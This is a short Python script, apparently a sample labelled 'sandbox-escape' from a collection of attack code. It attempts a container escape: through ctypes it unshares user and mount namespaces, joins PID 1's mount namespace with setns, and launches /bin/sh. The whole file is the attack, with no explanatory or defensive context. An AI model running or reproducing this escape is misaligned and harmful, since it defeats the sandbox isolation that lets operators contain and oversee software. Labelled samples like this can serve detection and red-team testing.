# family: sandbox-escape
# raw syscalls through libc: unshare a user namespace, then setns into pid 1's mount namespace
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000
libc.syscall(272, CLONE_NEWUSER | CLONE_NEWNS)  # unshare
fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
libc.setns(fd, 0)
os.execv("/bin/sh", ["sh"])
